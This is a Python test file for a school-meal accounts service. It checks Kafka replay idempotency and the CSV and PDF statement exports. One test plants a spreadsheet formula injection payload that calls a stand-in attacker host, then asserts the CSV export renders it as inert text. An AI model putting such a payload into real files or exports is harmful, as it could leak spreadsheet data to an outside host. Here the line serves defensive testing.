"""Replaying the whole meal and payment history changes nothing; exports carry the ledger."""

import csv as stdlib_csv
import io
import uuid

import httpx
import pypdfium2

from accounts.adapters.sql_unit_of_work import SqlAccountsUnitOfWork
from accounts.config import AccountsSettings
from accounts.consumers import rules
from shared.db import make_engine
from shared.messaging.consumer import BatchConsumer, exactly_once
from testkit.kafka import read_all

from .test_ledger import balance_becomes, meal, new_account, send, top_up


class DeadLetters:
    def __init__(self) -> None:
        self.reasons: list[bytes] = []

    async def send_and_wait(
        self, topic: str, value: bytes, *, key: bytes | None, headers: list[tuple[str, bytes]]
    ) -> None:
        self.reasons.append(dict(headers)["error_type"])


async def test_replaying_both_topics_from_offset_zero_changes_no_balance(
    office: httpx.AsyncClient, kafka: str, topic_prefix: str, accounts_settings: AccountsSettings
) -> None:
    account, student = await new_account(office)
    await send(kafka, f"{topic_prefix}meal-consumed", meal(account, student, 16))
    await send(kafka, f"{topic_prefix}payment-received", top_up(account, 1000))
    await balance_becomes(office, account, 550)

    engine = make_engine(accounts_settings.database_url)

    def uow() -> SqlAccountsUnitOfWork:
        return SqlAccountsUnitOfWork(engine, "accounts", accounts_settings.topic_prefix)

    dead = DeadLetters()
    try:
        # The consumers' own plumbing and handlers, fed every record from offset 0, in batches.
        charge, _, credit = rules(accounts_settings)
        meals = BatchConsumer(charge.event, exactly_once(charge, "accounts.charge-for-meal", uow), dead)
        payments = BatchConsumer(credit.event, exactly_once(credit, "accounts.credit-top-up", uow), dead)
        history = {
            consumer: await read_all(kafka, f"{topic_prefix}{topic}", expect=1)
            for consumer, topic in ((meals, "meal-consumed"), (payments, "payment-received"))
        }
        keys = {uuid.UUID(r.key.decode()) for records in history.values() for r in records if r.key}
        before = await _balances(accounts_settings, keys)
        for consumer, records in history.items():
            for start in range(0, len(records), 500):
                await consumer.consume(records[start : start + 500])
    finally:
        await engine.dispose()
    assert await _balances(accounts_settings, keys) == before
    # Only what was dead-lettered the first time (meals of unknown accounts) is dead-lettered again.
    assert set(dead.reasons) <= {b"AccountNotFound"}


async def _balances(settings: AccountsSettings, accounts: set[uuid.UUID]) -> dict[uuid.UUID, int]:
    from sqlalchemy import select

    from accounts.adapters.tables import account

    engine = make_engine(settings.database_url)
    try:
        async with engine.connect() as conn:
            return {
                row.id: row.balance_cents for row in await conn.execute(select(account.c.id, account.c.balance_cents))
            }
    finally:
        await engine.dispose()


async def test_csv_and_yearly_statement(office: httpx.AsyncClient, kafka: str, topic_prefix: str) -> None:
    account, student = await new_account(office)
    await send(kafka, f"{topic_prefix}payment-received", top_up(account, 2000))
    await send(kafka, f"{topic_prefix}meal-consumed", meal(account, student, 17))
    await balance_becomes(office, account, 1550)
    formula = '=HYPERLINK("http://attacker.example/?"&A1;"rimborso")'
    adjustment = {"amount_cents": -1, "reason": formula}
    adjusted = await office.post(f"/office/accounts/{account}/adjustments", json=adjustment)
    assert adjusted.status_code == 201, adjusted.text

    csv = await office.get(f"/accounts/{account}/movements.csv")
    assert csv.status_code == 200 and csv.headers["content-type"].startswith("text/csv")
    lines = csv.text.strip().splitlines()
    assert lines[0] == "data;causale;descrizione;importo;saldo" and len(lines) == 4
    cells = [cell for row in stdlib_csv.reader(lines, delimiter=";") for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]  # text, never a formula (finding 11)
    assert any("HYPERLINK" in c for c in cells) and "-0,01" in cells
    assert any(";-4,50;" in line for line in lines) and any(";20,00;" in line for line in lines)

    year = int((await office.get(f"/accounts/{account}/movements")).json()["items"][0]["booked_at"][:4])
    pdf = await office.get(f"/accounts/{account}/statements/{year}.pdf")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    text = "".join(page.get_textpage().get_text_range() for page in pypdfium2.PdfDocument(io.BytesIO(pdf.content)))
    assert "Attestazione" in text and "Luca" in text and "Maria Bianchi" in text
    assert "€ 4,50" in text  # one meal, paid with traceable money
